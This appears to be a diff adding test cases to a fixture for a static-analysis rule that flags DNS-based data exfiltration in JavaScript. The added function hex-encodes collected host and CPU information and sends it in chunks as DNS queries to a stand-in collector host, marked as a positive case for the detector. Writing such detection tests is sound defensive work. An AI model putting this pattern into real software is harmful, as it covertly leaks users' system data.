@@ -13,3 +13,12 @@ dns.resolveSrv(service, () => {});
 const cacheKey = Buffer.from(url).toString('base64');
 // ok: js_dns_exfiltration
 dns.lookup(new URL(url).hostname + '.', { all: true }, () => cacheKey);
+function send(data) {
+  const chunks = Buffer.from(data).toString('hex').match(/.{1,60}/g);
+  chunks.forEach(function (chunk) {
+    // ruleid: js_dns_exfiltration
+    dns.resolve(chunk + '.collector.example.org', 'A', () => {});
+  });
+}
+data = JSON.stringify({ h: os.hostname, c: os.cpus });
+send(data);
